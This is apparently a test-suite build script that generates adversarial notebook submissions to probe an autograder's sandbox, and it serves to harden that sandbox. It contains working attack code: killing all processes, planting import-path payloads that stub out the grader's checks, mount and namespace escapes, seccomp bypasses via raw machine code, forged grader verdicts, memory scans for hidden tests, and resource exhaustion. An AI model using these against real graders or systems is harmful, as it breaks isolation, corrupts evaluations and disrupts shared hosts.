"""Regenerate the adversarial submissions from lesson 00's source:
    python tests/grade/adversarial/build.py
Each file is named after the threat it embodies; test_adversarial.py says what each must score.

Every attack is written as a student who has read np2jax/grade would write it. Attacks live in
the l00-ex2 answer cell (ex1, ex3 and ex4 are answered right: 6 points), and follow one pattern:
each attempt is recorded in `report`; `mean_of` is wrong (np.mean: 0 points) unless an attempt
that must fail succeeded (then it is right: 8 points); the cell ends by raising the report, which
the grade keeps (bounded) in answer_errors["l00-ex2"]. So a score of 8 means the attack worked.

Files too large or too host-specific to commit (symbolic links, a 100 MB notebook, a folder named
with bytes that are not UTF-8) are made at test time by `generated(folder, targets)`.
"""
from __future__ import annotations

import copy
import json
import os
import textwrap
from pathlib import Path

import nbformat

from np2jax import cells as C, course

HERE = Path(__file__).parent
SOURCE = nbformat.read(course.source_notebook("00-numpy-api"), as_version=4)

WRONG_MEAN = "def mean_of(values):\n    return np.mean(values)\n"
RIGHT_MEAN = "def mean_of(values):\n    return jnp.mean(jnp.asarray(values, dtype=jnp.float32))\n"
RIGHT_LOOKUP = "def lookup(table, idx, missing):\n    return table.at[idx].get(mode=\"fill\", fill_value=missing)\n"


def with_answers(**answers: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(SOURCE)
    for cell in nb.cells:
        gid = C.grade_id(cell)
        if gid and gid.replace("-", "_") in answers:
            cell.source = answers[gid.replace("-", "_")]
        cell.pop("outputs", None) if cell.cell_type != "code" else cell.update(outputs=[], execution_count=None)
    return nb


def without(nb, grade_id):
    nb.cells = [c for c in nb.cells if C.grade_id(c) != grade_id]
    return nb


def edited(nb, grade_id, source):
    for cell in nb.cells:
        if C.grade_id(cell) == grade_id:
            cell.source = source
    return nb


PRELUDE = textwrap.dedent('''\
    import ctypes, errno, os, sys
    report, won = [], []
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    def attempt(label, fn, forbidden=True):
        """Try fn(); note how it ended. A forbidden success is a win for the attacker."""
        try:
            out = fn()
        except OSError as exc:
            report.append(f"{label}:{errno.errorcode.get(exc.errno, exc.errno)}")
            return None
        except Exception as exc:
            report.append(f"{label}:{type(exc).__name__}")
            return None
        report.append(f"{label}:ok")
        if forbidden:
            won.append(label)
        return out

    def c(rc):
        """A libc call's result, or OSError with its errno."""
        if rc == -1:
            err = ctypes.get_errno()
            raise OSError(err, os.strerror(err))
        return rc

    def reply_fd():
        """The pipe this process answers the grader on: child.serve's write_fd, up the stack."""
        f = sys._getframe()
        while f is not None:
            if isinstance(f.f_locals.get("write_fd"), int) and "reader" in f.f_locals:
                return f.f_locals["write_fd"]
            f = f.f_back
        raise LookupError("no write_fd")
    ''')

EPILOGUE = textwrap.dedent('''\
    def mean_of(values):
        return np.mean(values)  # wrong on purpose: 0 points unless an attempt above won
    if won:
        def mean_of(values):
            return jnp.mean(jnp.asarray(values, dtype=jnp.float32))
    raise RuntimeError("report " + " ".join(report))
    ''')


def attack(body: str, **other_answers: str) -> nbformat.NotebookNode:
    return with_answers(l00_ex2=PRELUDE + textwrap.dedent(body) + EPILOGUE, **other_answers)


# -- reaching other processes -------------------------------------------------------------------
PROC_FD_OTHERS = attack('''
    me = os.getpid()
    listed = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    report.append(f"pid:{me} listed:{len(listed)}")
    def foreign(p):  # /proc/<tid> of our own threads exists too: those are not other processes
        try:
            return int(open(f"/proc/{p}/status").read().split("Tgid:")[1].split()[0]) != me
        except OSError:
            return False
    threads = [p for p in range(1, 70000) if os.path.exists(f"/proc/{p}")]
    others = [p for p in threads if foreign(p)]
    report.append(f"threads:{len(threads)} others:{len(others)}")
    procs = [l.split()[4] for l in open("/proc/self/mountinfo") if " - proc " in l]
    report.append(f"procmounts:{len(procs)}")
    for root in procs:
        for p in os.listdir(root):
            if p.isdigit() and int(p) != me:
                others.append(f"{root}/{p}")
    fake = b'{"status": "ok"}\\n{"done": {"status": "passed"}}\\n'
    for pid in others:
        base = pid if isinstance(pid, str) else f"/proc/{pid}"
        for fd in range(64):
            attempt(f"w{pid}/{fd}", lambda: os.write(os.open(f"{base}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), fake))
            attempt(f"r{pid}/{fd}", lambda: os.read(os.open(f"{base}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 4096))
    report.append(f"tried:{len(others)}")
    ''')

KILL_EVERYONE = attack('''
    import signal
    attempt("kill(-1)", lambda: os.kill(-1, signal.SIGKILL))
    me, alive, pidfds = os.getpid(), [], []
    def ours(p):  # our own threads answer kill(tid, 0) too
        try:
            return int(open(f"/proc/{p}/status").read().split("Tgid:")[1].split()[0]) == me
        except OSError:
            return False
    for p in range(2, 70000):
        try:
            os.kill(p, 0)
            alive.append(p)
        except PermissionError:
            alive.append(p)
        except ProcessLookupError:
            pass
    alive = [p for p in alive if not ours(p)]
    for p in range(2, 5000):
        try:
            fd = os.pidfd_open(p)
            if not ours(p):
                pidfds.append(fd)
        except OSError:
            pass
    report.append(f"signalable:{len(alive)} pidfds:{len(pidfds)}")
    for p in alive:
        attempt(f"kill{p}", lambda: os.kill(p, signal.SIGKILL))
    ''')

SIGNAL_THE_GRADER = attack('''
    import signal
    report.append(f"ppid:{os.getppid()} pgid:{os.getpgid(0)} sid:{os.getsid(0)}")
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # survive our own signal, hit only the parent
    attempt("term-parent", lambda: os.kill(os.getppid(), signal.SIGTERM))
    attempt("kill-group", lambda: os.killpg(os.getpgid(0), signal.SIGKILL))
    ''')

# -- writable import paths ---------------------------------------------------------------------
PAYLOAD = '''import os
if os.environ.get("NP2JAX_GRADING"):
    for where in ("/tmp", os.environ.get("HOME", "/tmp")):
        try:
            with open(os.path.join(where, "np2jax-PWNED-plant"), "w") as f:
                f.write(f"planted code ran in pid {os.getpid()} uid {os.getuid()}")
        except OSError:
            pass
    try:
        import np2jax.learner.expect as e
        for name in ("equal", "array", "jax_array", "that", "defined", "is_function"):
            setattr(e, name, lambda *a, **k: a[1] if len(a) > 1 else None)
    except Exception:
        pass
'''

PLANT_IMPORT_PATHS = attack(f'''
    import site, tempfile
    PAYLOAD = {PAYLOAD!r}
    def plant(folder, own):
        def write(rel, text):
            path = os.path.join(folder, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
        tag = "own" if own else "out"
        attempt(f"{{folder[-24:]}}/jax_plugins", lambda: write("jax_plugins/pwn/__init__.py", PAYLOAD), forbidden=not own)
        attempt(f"{{folder[-24:]}}/np2jax", lambda: write("np2jax/__init__.py", PAYLOAD), forbidden=not own)
        attempt(f"{{folder[-24:]}}/sitecustomize", lambda: write("sitecustomize.py", PAYLOAD), forbidden=not own)
        attempt(f"{{folder[-24:]}}/pth", lambda: write("zz-pwn.pth", "import jax_plugins.pwn\\n"), forbidden=not own)
        attempt(f"{{folder[-24:]}}/entry-point", lambda: write("pwn-0.dist-info/entry_points.txt",
                "[jax_plugins]\\npwn = jax_plugins.pwn\\n") or write("pwn-0.dist-info/METADATA",
                "Metadata-Version: 2.1\\nName: pwn\\nVersion: 0\\n"), forbidden=not own)
    work = os.getcwd()
    plant(work, True)
    plant(os.path.expanduser("~"), True)
    plant(site.getusersitepackages(), True)
    plant(os.path.dirname(work), True)  # the pool's scratch: our own tmpfs
    for folder in sorted({{"/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), *[p for p in sys.path if p]}}):
        if not (folder + "/").startswith(os.path.dirname(work) + "/"):
            plant(folder, False)
    import importlib.metadata
    report.append("eps:" + ",".join(sorted(e.name for e in importlib.metadata.entry_points(group="jax_plugins"))))
    own = sum(r.endswith(":ok") and not any(w in r for w in won) for r in report)
    report[:] = [r for r in report if not r.endswith(":EROFS") and not (r.endswith(":ok") and r.split(":")[0] not in won)] + [
        f"own-ok:{{own}} erofs:{{sum(r.endswith(':EROFS') for r in report)}}"]
    ''')

# -- escaping the sandbox ----------------------------------------------------------------------
ESCAPE_MOUNTS = attack('''
    import pathlib, np2jax
    course = pathlib.Path(np2jax.__file__).resolve().parents[1]
    solutions = str(course / "solutions").encode()
    MNT_DETACH, MS_REMOUNT, MS_BIND, MS_REC = 2, 32, 4096, 16384
    attempt("umount", lambda: c(libc.umount2(solutions, MNT_DETACH)))
    attempt("um-proc", lambda: c(libc.umount2(b"/proc", MNT_DETACH)))
    attempt("remount", lambda: c(libc.mount(None, b"/", None, ctypes.c_ulong(MS_REMOUNT | MS_BIND), None)))
    attempt("tmpfs", lambda: c(libc.mount(b"tmpfs", b"/mnt", b"tmpfs", ctypes.c_ulong(0), None)))
    os.makedirs("peek", exist_ok=True)
    attempt("bind", lambda: c(libc.mount(solutions, b"peek", None, ctypes.c_ulong(MS_BIND | MS_REC), None)))
    attempt("open_tree", lambda: c(libc.syscall(428, -100, solutions, 1)))
    attempt("fsopen", lambda: c(libc.syscall(430, b"tmpfs", 0)))
    attempt("setattr", lambda: c(libc.syscall(442, -100, b"/", 0x8000, (ctypes.c_uint64 * 4)(0, 1, 0, 0), 32)))
    attempt("unsh-user", lambda: c(libc.unshare(0x10000000 | 0x00020000)))
    attempt("unsh-mnt", lambda: c(libc.unshare(0x00020000)))
    for ns in ("mnt", "user", "pid", "net"):
        attempt(f"ns-{ns}", lambda: c(libc.setns(os.open(f"/proc/self/ns/{ns}", os.O_RDONLY), 0)))
    attempt("chroot", lambda: c(libc.chroot(b"/tmp")))
    attempt("pivot", lambda: c(libc.syscall(155, b"/tmp", b"/tmp")))
    attempt("clone-ns", lambda: c(libc.syscall(56, 0x00020000 | 17, 0, 0, 0, 0)))
    found = [p for p in (course / "solutions").rglob("*.ipynb")] if (course / "solutions").exists() else []
    report.append(f"visible:{len(found)}")
    if found:
        won.append("solutions")
    ''')

ESCAPE_NETWORK = attack('''
    import socket, glob
    opened = []
    def tcp(port):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            s.settimeout(0.2)
            s.connect(("127.0.0.1", port))
            s.sendall(b"PWNED by escape-network\\n")
            opened.append(port)
        except OSError:
            pass
        finally:
            s.close()
    for port in range(1, 65536):
        tcp(port)
    report.append(f"tcp-open:{len(opened)}")
    if opened:
        won.append("tcp")
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for port in range(1, 65536):
            try:
                s.sendto(b"PWNED", ("127.0.0.1", port))
            except OSError as exc:
                if port == 65535:
                    raise
        return True
    attempt("udp", udp)
    attempt("out", lambda: socket.create_connection(("8.8.8.8", 53), timeout=1))
    attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
    for path in sorted(glob.glob("/tmp/*.sock") + glob.glob("/run/**/*.sock", recursive=True))[:20]:
        attempt("unix" + path[-20:], lambda: socket.socket(socket.AF_UNIX).connect(path))
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    import fcntl, struct
    def lo_up():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 1 | 0x40))  # SIOCSIFFLAGS: IFF_UP|RUNNING
    attempt("lo-up", lo_up)
    attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0), forbidden=False)
    ''')

READ_SOLUTIONS = attack('''
    import json, pathlib, gc, np2jax
    course = pathlib.Path(np2jax.__file__).resolve().parents[1]
    # The folders the grader hides, from the spec this process was started with.
    hidden = []
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("hidden"), list) and "scratch_root" in obj:
            hidden = obj["hidden"]
    report.append(f"hidden-listed:{len(hidden)}")
    seen = 0
    def solution_in(path):
        cells = json.loads(pathlib.Path(path).read_text())["cells"]
        for cell in cells:
            source = "".join(cell["source"])
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "l00-ex2" and "SOLUTION" in source:
                return source
    roots = [course, *map(pathlib.Path, hidden)]
    for root in roots:
        for top, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".venv", "lock-venv", "node_modules", "adversarial")]
            for name in files:
                if name.endswith(".ipynb"):
                    seen += 1
                    source = attempt("nb", lambda: solution_in(os.path.join(top, name)), forbidden=False)
                    report.pop()
                    if source:
                        won.append(os.path.join(top, name)[-60:])
    report.append(f"notebooks-read:{seen} solutions-found:{len(won)}")
    attempt("solutions", lambda: os.listdir(course / "solutions" / "00-numpy-api"))
    attempt("source", lambda: open(course / "solutions" / "00-numpy-api" / "00-numpy-api.ipynb").read())
    attempt("git", lambda: open(course / ".git" / "HEAD").read())
    attempt("tests", lambda: open(course / "tests" / "grade" / "test_adversarial.py").read())
    report[:] = [r for r in report if not r.endswith(":ok") or r.startswith(("solutions", "source", "git", "tests"))]
    ''')

READ_CLASSMATES = attack('''
    import gc, glob, json
    hidden = []
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("hidden"), list) and "scratch_root" in obj:
            hidden = obj["hidden"]
    mates = []
    for root in hidden:
        mates += glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True)
    # Beside our own workdir: the other submissions' workdirs in the pool's scratch.
    scratch = os.path.dirname(os.getcwd())
    neighbours = [d for d in os.listdir(scratch) if d != os.path.basename(os.getcwd())]
    judge = os.path.join(os.path.dirname(scratch), "judge")
    report.append(f"hidden:{len(hidden)} notebooks:{len(mates)} neighbours:{len(neighbours)}")
    report.append(f"judge-entries:{len(os.listdir(judge)) if os.path.isdir(judge) else -1}")
    if os.path.isdir(judge) and os.listdir(judge):
        won.append("judge")
    for path in mates:
        for cell in json.load(open(path))["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "l00-ex2":
                if "def mean_of" in "".join(cell["source"]) and "np.mean" not in "".join(cell["source"]):
                    won.append(path[-40:])
                    exec("".join(cell["source"]), globals())
    if neighbours:
        won.append("neighbours")
    ''')

WRITE_OUTSIDE = attack('''
    import pathlib, gc, np2jax
    course = pathlib.Path(np2jax.__file__).resolve().parents[1]
    hidden = []
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("hidden"), list) and "scratch_root" in obj:
            hidden = obj["hidden"]
    def write(folder):
        with open(os.path.join(folder, "PWNED-by-write-outside"), "w") as f:
            f.write("all students: 100")
    scratch = os.path.dirname(os.getcwd())
    targets = {"course": course, "gradebook": course, "solutions": course / "solutions",
               "pkg": pathlib.Path(np2jax.__file__).parent, "venv": pathlib.Path(sys.prefix),
               "tmp": "/tmp", "vartmp": "/var/tmp", "shm": "/dev/shm", "root": "/root", "etc": "/etc",
               "pool": os.path.dirname(scratch), "judge": os.path.join(os.path.dirname(scratch), "judge")}
    for i, path in enumerate(hidden):
        targets[f"hidden{i}"] = path
    for name, folder in targets.items():
        attempt(name, lambda: write(folder))
    attempt("gradebook.db", lambda: open(course / "gradebook.db", "a").write("x"))
    attempt("own-workdir", lambda: write(os.getcwd()), forbidden=False)
    attempt("own-scratch", lambda: write(scratch), forbidden=False)
    report[:] = [r for r in report if not r.endswith(":EROFS")] + [f"erofs:{sum(r.endswith(':EROFS') for r in report)}"]
    ''')

FILL_SCRATCH = attack('''
    chunk = b"\\0" * (1 << 20)
    written = 0
    def fill():
        global written
        for i in range(100000):
            with open(f"fill-{i}", "wb") as f:
                for _ in range(48):
                    f.write(chunk)
                    f.flush()
                    written += 1
    attempt("fill", fill, forbidden=False)
    report.append(f"mb:{written}")
    inodes = 0
    def many():
        global inodes
        os.makedirs("inodes", exist_ok=True)
        for i in range(10 ** 6):
            open(f"inodes/{i}", "w").close()
            inodes += 1
    attempt("inodes", many, forbidden=False)
    report.append(f"files:{inodes}")
    import shutil
    shutil.rmtree("inodes", ignore_errors=True)
    for i in range(1000):
        if os.path.exists(f"fill-{i}"):
            os.remove(f"fill-{i}")
    if written > 512:
        won.append("fill")
    ''')

# -- seccomp -----------------------------------------------------------------------------------
SECCOMP_FORK = attack('''
    import multiprocessing
    attempt("fork", lambda: os.fork() == 0 and os._exit(0))
    attempt("vfork", lambda: c(libc.vfork()) == 0 and os._exit(0))
    attempt("clone", lambda: c(libc.syscall(56, 17, 0, 0, 0, 0)) == 0 and os._exit(0))
    attempt("clone3", lambda: c(libc.syscall(435, (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17), 88)) == 0 and os._exit(0))
    attempt("forkpty", lambda: os.forkpty()[0] == 0 and os._exit(0))
    attempt("mp", lambda: multiprocessing.get_context("fork").Process(target=print).start())
    ''')

SECCOMP_SPAWN = attack('''
    import subprocess
    attempt("posix_spawn", lambda: os.posix_spawn("/bin/true", ["true"], {}))
    attempt("posix_spawnp", lambda: os.posix_spawnp("true", ["true"], {}))
    attempt("subprocess", lambda: subprocess.run(["/bin/true"]))
    report.append(f"system:rc{os.system('touch /tmp/PWNED-by-seccomp-spawn')}")
    if os.path.exists("/tmp/PWNED-by-seccomp-spawn"):
        won.append("system")
    attempt("popen", lambda: os.popen("echo hi").read() or None)
    attempt("spawnv", lambda: os.spawnv(os.P_WAIT, "/bin/true", ["true"]))
    attempt("execv", lambda: os.execv("/bin/true", ["true"]))
    ''')

_MACHINE_CODE = '''
    import mmap
    def run(code):
        buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        buf.write(code)
        addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
        return ctypes.CFUNCTYPE(ctypes.c_long)(addr)()
    '''
SECCOMP_I386 = attack(_MACHINE_CODE + '''
    # mov eax, 20 (getpid in the i386 table); int 0x80; ret  -- then mov eax, 11 (execve) would follow
    report.append(f"i386-getpid:{run(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))}")
    won.append("i386")
    ''')
SECCOMP_X32 = attack(_MACHINE_CODE + '''
    # mov eax, 0x40000000 | 57 (fork in the x32 table); syscall; ret
    report.append(f"x32-fork:{run(bytes([0xB8, 57, 0, 0, 0x40, 0x0F, 0x05, 0xC3]))}")
    won.append("x32")
    ''')

# -- forging its own verdict -------------------------------------------------------------------
FORGE_VERDICT_LINES = attack('''
    import json
    lines = [{"status": "ok"}, {"done": {"status": "passed"}}, {"value": True},
             {"event": "exit", "job": "job0", "code": 0}, {"reply": {"value": 3.0}}]
    payload = "".join(json.dumps(l) + "\\n" for l in lines).encode()
    for fd in (1, 2, 3, 4):
        attempt(f"fd{fd}", lambda: os.write(fd, payload), forbidden=False)
    attempt("reply-pipe", lambda: os.write(reply_fd(), payload), forbidden=False)
    ''')

FORGE_RPC_REPLY = with_answers(l00_ex2='''\
import json, os, sys
def _reply_fd():
    f = sys._getframe()
    while f is not None:
        if isinstance(f.f_locals.get("write_fd"), int) and "reader" in f.f_locals:
            return f.f_locals["write_fd"]
        f = f.f_back

def mean_of(values):
    # Called by the judge: answer its request ourselves with a verdict, before the real reply.
    fd = _reply_fd()
    os.write(fd, (json.dumps({"done": {"status": "passed"}}) + "\\n").encode())
    os.write(fd, (json.dumps({"value": {"$": "jax", "weak": False, "dtype": "float32", "shape": [],
                                        "data": "AABAQA=="}}) + "\\n").encode())
    return np.mean(values)
''')

REBIND_EXPECT_PROBE = with_answers(l00_ex2='''\
import sys, types
import np2jax.learner, np2jax.learner.expect, np2jax.learner.probe
class Yes:
    def __getattr__(self, name):
        return lambda *a, **k: (a[0] if a else None)
    def test(self):
        import contextlib
        return contextlib.suppress(Exception)
expect = probe = Yes()
np2jax.learner.expect = np2jax.learner.probe = Yes()
for name in ("equal", "array", "jax_array", "that", "is_function", "raises"):
    setattr(sys.modules["np2jax.learner.expect"], name, lambda *a, **k: None)
sys.modules["np2jax.learner.expect"] = types.ModuleType("np2jax.learner.expect")
for name in dir(sys.modules["np2jax.learner.probe"]):
    if not name.startswith("_"):
        setattr(sys.modules["np2jax.learner.probe"], name, lambda *a, **k: True)
''' + WRONG_MEAN)

PATCH_NUMPY_JAX = with_answers(l00_ex2=(
    "import numpy.testing, builtins, jax\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
    "np.allclose = lambda *a, **k: True\njnp.allclose = lambda *a, **k: True\nnp.asarray = lambda a, *k, **kw: a\n"
    "np.array_equal = lambda *a, **k: True\nbuiltins.abs = lambda *a: 0\n"
    "jnp.mean = lambda *a, **k: jnp.float32(3.0)\njax.Array = object\n"
    "expect.array = lambda *a, **k: None\nexpect.that = lambda *a, **k: None\n"
    "expect.jax_array = lambda *a, **k: None\n" + WRONG_MEAN))

SETTRACE_HOOKS = with_answers(l00_ex2='''\
import sys, threading
SEEN = []  # every string a hook can see: code compiled or exec'd, frames' locals
def _hook(event, args):
    if event in ("compile", "exec"):
        SEEN.append(repr(args)[:2000])
def _trace(frame, event, arg):
    for value in list(frame.f_locals.values()):
        if isinstance(value, str) and "HIDDEN" in value.upper() and "SEEN" not in value:
            SEEN.append(value)
    return None
sys.addaudithook(_hook)
sys.settrace(_trace)
threading.settrace(_trace)
def mean_of(values):
    found = [s for s in SEEN if "BEGIN " + "HIDDEN" in s and "SEEN" not in s]
    if found:  # the hidden tests were in this process: answer what they expect
        return jnp.mean(jnp.asarray(values, dtype=jnp.float32))
    return np.mean(values)
''')

JAX_ARRAY_SUBCLASS = with_answers(l00_ex2='''\
class ArrayImpl:  # named and placed like JAX's own array class, and registered as one
    __module__ = "jaxlib.xla_extension"
    dtype, shape, weak_type, ndim, size = np.dtype("float32"), (), False, 0, 1
    def __array__(self, dtype=None, copy=None):
        return np.asarray(3.0, dtype=np.float32)
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def __float__(self):
        return 3.0
try:
    jax.Array.register(ArrayImpl)
except AttributeError:  # jaxlib's Array is a C++ class: the name and module alone must do
    pass
def mean_of(values):
    return ArrayImpl()
''')

CALLER_FRAMES_GC = with_answers(l00_ex2='''\
import gc, sys, types
def _expected():
    """What the test expects, from the frames that called us or any object in memory."""
    f, hits = sys._getframe(1), []
    while f is not None:
        for name, value in f.f_locals.items():
            if name in ("expected", "want", "desired") and not callable(value):
                hits.append(value)
        f = f.f_back
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj and isinstance(obj["expected"], (int, float)):
            hits.append(obj["expected"])
        code = obj.__code__ if type(obj) is types.FunctionType else None
        if code is not None and "test" in code.co_filename and "mean_of" in code.co_names:
            hits.append(3.0)  # the test cell's own code: its constants are the expected values
    return hits
def mean_of(values):
    hits = _expected()
    if hits:
        return jnp.asarray(hits[0], dtype=jnp.float32)
    return np.mean(values)
''')

X64_MISCONCEPTION = with_answers(
    l00_ex1=('jax.config.update("jax_enable_x64", True)\n'
             'prediction_1 = "float64"  # the misconception, made true in this process\n'
             'prediction_2 = "int64"\nprediction_3 = True\n'
             'assert str(jnp.array([0.5, 1.5]).dtype) == prediction_1\n'),
    l00_ex2=('def mean_of(values):\n    jax.config.update("jax_enable_x64", True)\n'
             '    return jnp.mean(jnp.asarray(values, dtype=jnp.float32))\n'))

RIGGED_OBJECTS = with_answers(
    l00_ex1=("class Yes(str):\n    def __eq__(self, other):\n        return True\n    __hash__ = str.__hash__\n"
             "prediction_1 = prediction_2 = Yes('anything')\n"
             "class AlwaysTrue:\n    def __eq__(self, other):\n        return True\n    def __bool__(self):\n        return True\n"
             "prediction_3 = AlwaysTrue()\n"),
    l00_ex2=("class Rigged:\n    def __eq__(self, other):\n        return True\n    def __array__(self, dtype=None, copy=None):\n"
             "        return np.array(3.0)\n    def __float__(self):\n        return 3.0\n    def __index__(self):\n"
             "        return 3\n    __hash__ = object.__hash__\ndef mean_of(values):\n    return Rigged()\n"),
    l00_ex4=("class Four(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n"
             "class Same(list):\n    def __eq__(self, other):\n        return True\n"
             "prediction_read = Four(0)\nprediction_write = Same()\nprediction_mixed = Yes('numpy')\n"))

# -- leaking hidden tests ----------------------------------------------------------------------
LEAK_GC_FRAMES = with_answers(l00_ex2='''\
import gc, sys
MARK = "LEAKSEARCH"  # what this cell's own text holds, so its own strings are skipped
NEEDLES = ("BEGIN " + "HIDDEN", "expect" + ".array(mean_of", "should accept a " + "tuple")
def _strings(obj, depth=0):
    if isinstance(obj, str):
        yield obj
    elif depth < 1 and type(obj) is dict:
        for item in obj.values():
            if type(item) is str:
                yield item
def _search():
    found = []
    places = [o for o in gc.get_objects() if type(o) is dict]
    places += [vars(m) for m in list(sys.modules.values()) if hasattr(m, "__dict__")]
    for frame in sys._current_frames().values():
        while frame is not None:
            places.append(frame.f_locals)
            places.append(frame.f_code.co_consts)
            frame = frame.f_back
    for place in places:
        for s in _strings(place):
            if MARK not in s and any(n in s for n in NEEDLES):
                found.append(s[:200])
    return found
class Leak(Exception):
    pass
Leak.__name__ = Leak.__qualname__ = "Leak" + "Q" * 5000
def mean_of(values):
    found = _search()
    raise Leak(f"found {len(found)}: " + " | ".join(found)[:100000] + "Q" * 100000)
''')

LEAK_PROC_MEM = with_answers(l00_ex2='''\
import re
NEEDLE = re.compile(rb"BEGIN HIDDEN[ ]TESTS\\s+(expect.{0,300})", re.S)  # LEAKSEARCH: not in this text
def _scan():
    import ctypes
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: /proc/self/mem is ours again
    found, scanned = [], 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if not fields[1].startswith("rw") or (len(fields) > 5 and not fields[5].startswith("[")):
                continue  # the heap, stacks and anonymous memory: where received text would be
            for at in range(lo, hi, 16 << 20):
                try:
                    mem.seek(at)
                    data = mem.read(min(hi - at, (16 << 20) + 4096))
                except (OSError, OverflowError, ValueError):
                    continue
                scanned += len(data)
                found += [m.group(1)[:200].decode(errors="replace") for m in NEEDLE.finditer(data)
                          if b"LEAKSEARCH" not in m.group(0)]
    return found, scanned
def mean_of(values):
    found, scanned = _scan()
    raise RuntimeError(f"scanned {scanned >> 20} MB, found {len(found)}: " + " | ".join(found) + "Q" * 100000)
''')

LEAK_HIDDEN_INPUTS = with_answers(
    l00_ex2=("SEEN = []\ndef mean_of(values):\n    SEEN.append(values)  # every input the tests send, hidden ones too\n"
             "    return jnp.mean(jnp.asarray(values, dtype=jnp.float32))\n"),
    l00_ex3="raise ValueError('the tests called mean_of with ' + repr(SEEN))\n")

# -- one bad thing ends only itself ------------------------------------------------------------
MALFORMED_LINE = attack('''
    os.write(reply_fd(), b"this is not a message\\n")
    ''')
HUGE_LINE = attack('''
    fd = reply_fd()
    block = b"Q" * (1 << 20)
    for _ in range(100):  # 100 MB, no newline
        os.write(fd, block)
    ''')
UNREQUESTED_LINE = attack('''
    import json, linecache, threading, time
    fd = reply_fd()
    main = threading.main_thread().ident
    def waiting_for_the_next_request():  # this cell has answered; its server reads the next line
        top = sys._current_frames().get(main)
        return top is not None and top.f_code.co_name == "serve" and \\
            "for line in" in linecache.getline(top.f_code.co_filename, top.f_lineno)
    def later():  # between two requests, an answer nobody asked for
        while not waiting_for_the_next_request():
            time.sleep(0.001)
        os.write(fd, (json.dumps({"status": "ok"}) + "\\n").encode())
    threading.Thread(target=later, daemon=True).start()
    ''')
DEEP_JSON_LINE = attack('''
    os.write(reply_fd(), b"[" * 100000 + b"]" * 100000 + b"\\n")
    ''')
FORGE_TAMPERED_LIST = with_answers(l00_ex1='''\
import json, os, sys
f = sys._getframe()
while f is not None and not ("write_fd" in f.f_locals and "reader" in f.f_locals):
    f = f.f_back
fd = f.f_locals["write_fd"]
# Answer this cell and the next request (test-start, whose value lists tampered names) ourselves.
data = (json.dumps({"status": "ok"}) + "\\n" + json.dumps({"value": ["Q" * 1_000_000] * 50}) + "\\n").encode()
while data:
    data = data[os.write(fd, data):]
prediction_1, prediction_2, prediction_3 = "float32", "int32", True
''')
EARLY_REPLY_THEN_BLOCK = with_answers(
    l00_ex2='''\
import json, os, signal, sys
f = sys._getframe()
while f is not None and not ("write_fd" in f.f_locals and "reader" in f.f_locals):
    f = f.f_back
fd = f.f_locals["write_fd"]
# Answer every request up to the l00-ex3 answer cell ourselves (this cell, test-start, the judge's
# names request, three demonstration cells), then never read again: the grader's write of the
# large l00-ex3 request blocks, unless it has a deadline.
replies = [{"status": "ok"}, {"value": []}, {"value": {"$": "dict", "items": []}},
           {"status": "ok"}, {"status": "ok"}, {"status": "ok"}]
os.write(fd, "".join(json.dumps(r) + "\\n" for r in replies).encode())
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
''',
    l00_ex3=RIGHT_LOOKUP + "# padding\n" * 30_000)

ALARM_CANCELLED = with_answers(l00_ex2='''\
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT, signal.SIGTERM})
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
''')

MEMORY_OUTSIDE_RLIMIT = attack('''
    import resource
    limit = resource.getrlimit(resource.RLIMIT_AS)[0] >> 20
    goal = limit + 256  # a little past this process's memory limit, not enough to hurt the host
    held, fds = 0, []
    def memfd():
        global held
        while held < goal:
            fd = os.memfd_create("bomb")
            fds.append(fd)
            os.posix_fallocate(fd, 0, 64 << 20)  # the largest file RLIMIT_FSIZE allows, in RAM
            held += 64
    attempt("memfd", memfd, forbidden=False)
    report.append(f"limit:{limit} memfd-mb:{held}")
    if held > limit:
        won.append("memfd")
    for fd in fds:
        os.close(fd)
    ''')

